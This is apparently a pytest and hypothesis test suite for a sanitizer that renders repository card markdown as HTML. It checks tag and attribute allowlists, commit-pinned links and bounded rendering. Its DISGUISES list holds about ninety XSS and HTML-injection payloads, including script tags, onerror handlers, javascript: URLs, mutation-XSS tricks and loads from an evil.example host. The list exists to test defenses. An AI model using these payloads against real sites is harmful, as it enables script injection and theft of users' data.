"""A stranger's card on our page: nothing runs, nothing is fetched from elsewhere, links mean the commit."""

from __future__ import annotations

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from components.card_html import MOST_CHARACTERS, MOST_MARKS, render_card

HUB = "https://hub.example"
COMMIT = "0123456789abcdef0123456789abcdef01234567"
BLOB = f"{HUB}/org/name/blob/{COMMIT}"
RESOLVE = f"{HUB}/org/name/resolve/{COMMIT}"

TAGS = frozenset(
    [
        "a",
        "abbr",
        "b",
        "blockquote",
        "br",
        "caption",
        "center",
        "cite",
        "code",
        "col",
        "colgroup",
        "dd",
        "del",
        "details",
        "dfn",
        "div",
        "dl",
        "dt",
        "em",
        "figcaption",
        "figure",
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "hr",
        "i",
        "img",
        "ins",
        "kbd",
        "li",
        "mark",
        "ol",
        "p",
        "pre",
        "q",
        "rp",
        "rt",
        "ruby",
        "s",
        "samp",
        "small",
        "span",
        "strong",
        "sub",
        "summary",
        "sup",
        "table",
        "tbody",
        "td",
        "tfoot",
        "th",
        "thead",
        "tr",
        "tt",
        "u",
        "ul",
        "var",
        "wbr",
    ]
)
ATTRIBUTES = frozenset(
    [
        "id",
        "dir",
        "lang",
        "title",
        "align",
        "href",
        "src",
        "alt",
        "width",
        "height",
        "colspan",
        "rowspan",
        "scope",
        "start",
        "reversed",
        "open",
        "span",
        "class",
        "target",
        "rel",
        "loading",
        "decoding",
        "referrerpolicy",
    ]
)
OUR_CLASSES = {"pg-card", "pg-scroll", "pg-image-link", "pg-notice"}


def render(markdown: str) -> str:
    return render_card(markdown, repo_id="org/name", revision=COMMIT, endpoint=HUB)


class Seen(HTMLParser):
    """Every tag of a rendered card, each checked as it comes."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.text = ""

    def handle_starttag(self, tag, attrs):
        assert tag in TAGS, f"<{tag}> came through"
        values = dict(attrs)
        assert len(values) == len(attrs), f"an attribute twice in <{tag}>: {attrs}"
        for name, value in values.items():
            assert name in ATTRIBUTES, f"{name}= came through on <{tag}>"
            assert not name.startswith("on")
            if name == "class":
                assert value in OUR_CLASSES, f"class {value!r} came through"
            if name == "id":
                assert value.startswith("card-"), f"id {value!r} could be one of the page's own"
            if name == "href":
                assert value.startswith("#card-") or urlsplit(value).scheme in ("http", "https", "mailto"), value
            if name == "src":
                assert tag == "img"
                assert value.startswith(f"{HUB}/"), f"{value} would be fetched"
        if tag == "a" and not values.get("href", "#").startswith("#"):
            assert values["target"] == "_blank"
            assert values["rel"] == "noopener noreferrer nofollow"
        self.tags.append((tag, values))

    def handle_data(self, data):
        self.text += data

    def handle_comment(self, data):
        raise AssertionError(f"a comment came through: {data}")

    def handle_decl(self, decl):
        raise AssertionError(f"a declaration came through: {decl}")

    def handle_pi(self, data):
        raise AssertionError(f"a processing instruction came through: {data}")

    def all(self, tag):
        return [values for name, values in self.tags if name == tag]


def seen(markdown: str) -> Seen:
    parser = Seen()
    parser.feed(render(markdown))
    parser.close()
    return parser


DISGUISES = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script/x>",
    "<script\n>alert(1)</script\n>",
    "<<script>alert(1);//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x ONERROR=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<img src=`x`onerror=alert(1)>",
    '<img src="x" alt="`><img src=x onerror=alert(1)>">',
    '<img """><script>alert(1)</script>">',
    "<img src=javascript:alert(1)>",
    "<img src=https://evil.example/x.png>",
    "<img src=//evil.example/x.png>",
    "<img src=https://hub.example@evil.example/x.png>",
    "<img src=https:\\\\evil.example\\x.png>",
    "<img srcset='https://evil.example/x.png 2x' src=a.png>",
    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
    "<picture><source srcset=https://evil.example/x.png><img src=a.png></picture>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A&#x61&#x76&#x61script:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='blob:https://hub.example/1'>x</a>",
    "<a href=x onclick=alert(1) onmouseover=alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT&colon;alert(1))",
    "[x](<javascript:alert(1)>)",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/x.png)",
    "![x][r]\n\n[r]: //evil.example/x.png 'onload=alert(1)'",
    "<javascript:alert(1)>",
    "<svg onload=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><image href=https://evil.example/x.png></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=https://evil.example/x.swf></object>",
    "<embed src=https://evil.example/x.swf>",
    "<form action=https://evil.example><input name=token><button formaction=javascript:alert(1)>x</button></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import url(https://evil.example/x.css);body{display:none}</style>",
    "<div style='position:fixed;inset:0;background:url(https://evil.example/x)'>x</div>",
    "<div class='gradio-container pg-error' id=use-model>x</div>",
    "<a name=parent id=results>x</a><img name=cookie id=body src=a.png>",
    "<video src=https://evil.example/x.mp4 poster=https://evil.example/x.png autoplay></video>",
    "<audio src=https://evil.example/x.mp3 autoplay></audio>",
    "<body onload=alert(1) background=https://evil.example/x.png>",
    "<table background=https://evil.example/x.png><tr><td background=javascript:alert(1)>x</table>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<?xml version='1.0'?><?php alert(1) ?>",
    "<!DOCTYPE html [<!ENTITY x 'y'>]>",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "# <img src=x onerror=alert(1)> title",
    "<a href='https://ok.example' target=_self rel=opener ping=https://evil.example>x</a>",
    "<a href='//evil.example\" onmouseover=alert(1) x=\"'>x</a>",
    "<p id='x\" onclick=\"alert(1)'>x</p>",
    "</div></div></body><script>alert(1)</script>",
    "<div><p>never closed <b><i><a href=x>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\u202e<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
]


@pytest.mark.parametrize("card", DISGUISES)
def test_no_disguise_comes_through(card):
    seen(card)
    seen(f"text before\n\n{card}\n\nand after")
    seen(f"> - {card}")
    seen(f"<div>\n\n{card}\n\n</div>")


def test_all_disguises_in_one_card():
    seen("\n\n".join(DISGUISES))
    seen("".join(DISGUISES))


@settings(max_examples=150, deadline=None)
@given(
    st.lists(
        st.sampled_from(
            [*DISGUISES, "<", ">", '"', "'", "&", "`", "\n", "\n\n", " ", "=", "/", "<!--", "-->", "](", "[", "|"]
        ),
        max_size=12,
    )
)
def test_no_mixture_comes_through(parts):
    seen("".join(parts))


def test_links_and_images_mean_the_commit():
    card = """[a](<docs/a b.md>) [b](./b.md#part) [c](../../up.md) [d](/models?x=1&y=2) [e](https://x.example/p?q=1#f)
[f](#usage) [g](mailto:a@b.example) [h](?tab=files) ![i](img/i.png) <img src="./j.png?raw=true"> <img src="/front/k.svg">"""
    html = seen(card)
    assert [values["href"] for values in html.all("a")] == [
        f"{BLOB}/docs/a%20b.md",
        f"{BLOB}/b.md#part",
        f"{BLOB}/up.md",
        f"{HUB}/models?x=1&y=2",
        "https://x.example/p?q=1#f",
        "#card-usage",
        "mailto:a@b.example",
        f"{HUB}/org/name?tab=files",
    ]
    assert [values["src"] for values in html.all("img")] == [
        f"{RESOLVE}/img/i.png",
        f"{RESOLVE}/j.png?raw=true",
        f"{HUB}/front/k.svg",
    ]
    assert all(values["loading"] == "lazy" for values in html.all("img"))
    assert all(values["referrerpolicy"] == "no-referrer" for values in html.all("img"))


def test_datasets_have_their_own_addresses():
    html = render_card("[a](a.md)", repo_id="org/data", revision=COMMIT, endpoint=HUB + "/", kind="dataset")
    assert f'href="{HUB}/datasets/org/data/blob/{COMMIT}/a.md"' in html


def test_images_from_elsewhere_become_links():
    html = seen("![A plot](https://third.example/p.png)")
    assert not html.all("img")
    assert html.all("a")[0]["href"] == "https://third.example/p.png"
    assert html.text.strip() == "Image from third.example (not loaded): A plot"


def test_a_badge_keeps_the_authors_link():
    html = seen("[![Licence](https://img.third.example/badge.svg)](https://docs.example/)")
    assert [values["href"] for values in html.all("a")] == ["https://docs.example/"]
    assert "Image from img.third.example (not loaded): Licence" in html.text


def test_headings_and_fragments_meet():
    html = seen("# How to *use* `it`\n\n## Usage\n\n## Usage\n\n[go](#usage) <a name='old'></a>[there](#old)")
    ids = {values["id"] for _, values in html.tags if "id" in values}
    assert ids == {"card-how-to-use-it", "card-usage", "card-usage-1", "card-old"}
    assert [v["href"] for v in html.all("a") if "href" in v] == ["#card-usage", "#card-old"]
    assert all("target" not in values for values in html.all("a"))


def test_markdown_of_every_day():
    html = seen("a ~~b~~ **c**\n\n| x | y |\n|:--|--:|\n| 1 | 2 |\n\n```python\nprint('<b>')\n```\n\n- one\n- two")
    names = [name for name, _ in html.tags]
    assert {"s", "strong", "table", "td", "pre", "code", "ul", "li"} <= set(names)
    assert names[names.index("table") - 1] == "div"
    assert "print('<b>')" in html.text
    assert "{{ bos_token }} ${x}" in seen("`{{ bos_token }} ${x}`").text


def test_right_to_left_and_sizes_stay():
    html = seen('<div dir="rtl" align="center">שלום</div><img src="a.png" width="300" height="50%" width="1e9">')
    assert html.all("div")[1] == {"dir": "rtl", "align": "center"}
    assert html.all("img")[0]["width"] == "300"


def test_nothing_to_show_is_nothing():
    assert render("") == ""
    assert render(" \n\n<!-- only a comment -->") == ""


def test_a_long_card_is_cut_and_says_so():
    html = seen("word " * MOST_CHARACTERS)
    assert len(html.text) < MOST_CHARACTERS + 1000
    assert "too long to show here whole: 4,000,000 more characters" in html.text
    assert html.all("a")[-1]["href"] == f"{BLOB}/README.md"


@pytest.mark.parametrize(
    "unit",
    [">", "> ", "[", "![", "*", "_a", "**a ", "`", "`a", "<", "<a ", "<div>", "<b>", "<p>a<b>", "<table>", "- ", "1. ",
     "|a", "~~a", "&", "\\", "\n", "# a\n", "[a]: /x\n", "[](", "<!--", "<![CDATA[", "<font color=red><p>x", "(", "{{"],
)  # fmt: skip
def test_work_is_bounded_by_the_number_of_marks(unit):
    """100,000 of anything: what reaches the parser is bounded, so the time is too, however the marks are arranged."""
    from components.card_html import _cut, _work

    card = unit * (400_000 // len(unit))
    assert _work(_cut(card)) <= MOST_MARKS
    assert len(_cut(card)) <= MOST_CHARACTERS
    seen(unit * 3000)


def test_unclosed_formatting_cannot_multiply():
    """5,000 unclosed <font id=…> and a <p> each made html5ever write 300 MB: attributes on them are dropped first."""
    card = "<div>" + "".join(f"<font id=a{n}><b title={n}><p>x" for n in range(3000))
    assert len(render(card)) < 2_000_000


@settings(max_examples=100, deadline=None)
@given(st.text(max_size=300))
def test_any_text_renders(text):
    seen(text)
